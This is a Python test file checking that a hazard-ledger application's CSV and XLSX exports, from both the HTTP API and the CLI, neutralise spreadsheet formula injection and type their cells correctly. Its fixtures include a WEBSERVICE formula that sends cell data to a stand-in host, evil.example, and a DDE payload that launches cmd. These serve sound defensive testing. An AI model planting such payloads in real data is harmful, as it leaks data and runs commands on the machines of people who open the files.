"""Exports are data, never code (issue 10 point 5), as the finding was made: an enterprise reports a
hazard whose description is a formula; every CSV/XLSX export over HTTP and from the CLI holds it as
text, with digit-only credit codes and township codes as text and dates, amounts, counts typed."""

from __future__ import annotations

import argparse
import csv
import io
import re
from datetime import datetime

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from infra.settings import Settings
from services.cli import accountability as accountability_cli, readmodels as readmodels_cli
from services.runtime import Config
from tests.conftest import POLITE_ENV
from tests.projections.test_export_safety import FORMULA_START, digits_only_code, sheet_formulas

API = "/api/v1"
DESCRIPTION = '=WEBSERVICE("http://evil.example/?d="&A1)'
NAME = "-2+3+cmd|' /C calc'!A0 某化工厂"
PERSON = "@SUM(1+9) 张三"
YEAR = "2026"
CHINESE = re.compile(r"[\u4e00-\u9fff]")  # every header is a Chinese label

# Every spreadsheet export: (path, query, does its XLSX / its CSV list the enterprise by name?)
EXPORTS = [("/ledger", {}, True, True), ("/rates", {"by": "township"}, False, False),
           ("/rates", {"by": "enterprise"}, True, True), ("/compliance", {}, True, True),
           ("/statistics", {"period": YEAR, "by": "township"}, False, False),
           ("/statistics", {"period": YEAR, "by": "enterprise"}, True, True),
           ("/coverage", {"year": YEAR, "table": "enforcement"}, True, True),
           ("/coverage", {"year": YEAR, "table": "townships"}, True, False)]  # XLSX: both tables


@pytest.fixture
def world(api, auth) -> dict:
    return build_world(api, auth)


def build_world(api: TestClient, auth) -> dict:
    """The bureau registers an enterprise with a digit-only credit code and a hostile name; the
    enterprise reports a hazard described by a formula, names a hostile responsible person and
    rectifies it at a cost."""
    def post(path: str, body: dict, headers: dict) -> dict:
        answer = api.post(f"{API}{path}", headers=headers, json=body)
        assert answer.status_code in (200, 201), answer.text
        return answer.json()

    code = digits_only_code()
    firm = post("/enterprises", {"credit_code": code, "name": NAME, "township": "330226001",
                                 "sector": "chem", "scale": "small_micro"}, auth("bureau"))["id"]
    own = auth("enterprise", enterprise_id=firm)
    hazard = post("/hazards", {"enterprise_id": firm, "source": "self_check", "category": "unsafe_condition",
                               "description": DESCRIPTION, "level": "general",
                               "discovered_on": "2026-05-04"}, own)["id"]
    post(f"/hazards/{hazard}/assign", {"responsible_person": PERSON, "deadline": "2026-06-20",
                                     "assigned_on": "2026-05-06"}, own)
    last = post(f"/hazards/{hazard}/rectify", {"evidence": ["整改后照片.jpg"], "cost": "1234.50",
                                               "rectified_on": "2026-06-10"}, own)
    return {"code": code, "after": last["position"], "bureau": auth("bureau")}


def download(api, world, path: str, query: dict, fmt: str) -> bytes:
    answer = api.get(f"{API}{path}", params={**query, "format": fmt, "after": world["after"]},
                     headers=world["bureau"])
    assert answer.status_code == 200, answer.text
    return answer.content


def test_no_export_carries_a_formula_and_the_hostile_text_reads_back(api, world):
    for path, query, in_xlsx, in_csv in EXPORTS:
        book = download(api, world, path, query, "xlsx")
        assert sheet_formulas(book) == [], path
        texts = []
        for sheet in load_workbook(io.BytesIO(book)).worksheets:
            for cell in (c for row in sheet.iter_rows() for c in row):
                assert cell.data_type != "f", (path, cell.coordinate)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_START) or cell.quotePrefix, (path, cell.value)
        assert (NAME in texts) is in_xlsx, path

        rows = list(csv.reader(io.StringIO(download(api, world, path, query, "csv").decode("utf-8-sig"))))
        values = [value for row in rows for value in row]
        assert not [v for v in values if v.startswith(FORMULA_START)], path
        assert ("'" + NAME in values) is in_csv, path
        assert all(CHINESE.search(header) for header in rows[0]), (path, rows[0])


def test_the_ledger_types_its_cells(api, world):
    sheet = load_workbook(io.BytesIO(download(api, world, "/ledger", {}, "xlsx"))).active
    row = dict(zip([c.value for c in sheet[2]], sheet[3], strict=True))
    assert (row["隐患描述"].value, row["隐患描述"].data_type) == (DESCRIPTION, "s")
    assert row["责任人"].value == PERSON and row["责任人"].quotePrefix
    assert (row["统一社会信用代码"].value, row["统一社会信用代码"].data_type) == (world["code"], "s")
    assert row["发现日期"].is_date and row["发现日期"].value == datetime(2026, 5, 4)
    assert row["整改期限"].is_date and row["整改完成日期"].value == datetime(2026, 6, 10)
    assert (row["整改资金（元）"].value, row["整改资金（元）"].data_type) == (1234.5, "n")
    text = download(api, world, "/ledger", {}, "csv").decode("utf-8-sig")
    got = dict(zip(*list(csv.reader(io.StringIO(text)))[:2], strict=True))
    assert got["统一社会信用代码"] == "'" + world["code"] and got["隐患描述"] == "'" + DESCRIPTION
    assert got["发现日期"] == "2026-05-04" and got["整改资金（元）"] == "1234.50"


def test_counts_and_rates_are_numbers_and_township_codes_text(api, world):
    sheet = load_workbook(io.BytesIO(download(api, world, "/rates", {"by": "township"}, "xlsx"))).active
    row = dict(zip([c.value for c in sheet[2]], sheet[3], strict=True))
    assert (row["代码"].value, row["代码"].data_type) == ("330226001", "s")
    assert (row["发现隐患"].value, row["已整改"].value, row["整改率"].value) == (1, 1, 1)
    assert row["整改率"].number_format == "0.00%"
    text = download(api, world, "/rates", {"by": "township"}, "csv").decode("utf-8-sig")
    got = dict(zip(*list(csv.reader(io.StringIO(text)))[:2], strict=True))
    assert got["代码"] == "'330226001" and got["整改率"] == "100.00%"


@pytest.fixture
def hazard(database_url, schema, tmp_path):
    """`hazard ledger | coverage …` in-process (they catch the views up themselves)."""
    parser = argparse.ArgumentParser(prog="hazard")
    commands = parser.add_subparsers(dest="command", required=True)
    readmodels_cli.register(commands)
    accountability_cli.register(commands)
    config = Config(Settings.from_env({**POLITE_ENV, "DATABASE_URL": database_url, "HAZARD_DB_SCHEMA": schema,
                                         "HAZARD_DATA_DIR": str(tmp_path / "var")}))  # small pools
    return lambda *argv: (args := parser.parse_args(argv)).run(args, config)


def test_the_cli_exports_are_data_too(client, auth, hazard, tmp_path):
    build_world(client, auth)  # written over HTTP, no projections running beside the app
    for command, fmt in (("ledger", "xlsx"), ("ledger", "csv"), ("coverage", "xlsx"), ("coverage", "csv")):
        out = tmp_path / f"{command}.{fmt}"
        more = ("--year", YEAR) if command == "coverage" else ()
        assert hazard(command, *more, "--format", fmt, "--output", str(out)) == 0
        data = out.read_bytes()
        if fmt == "xlsx":
            assert sheet_formulas(data) == []
            book = load_workbook(io.BytesIO(data))
            names = [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
            assert NAME in names
        else:
            values = [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]
            assert "'" + NAME in values and not [v for v in values if v.startswith(FORMULA_START)]
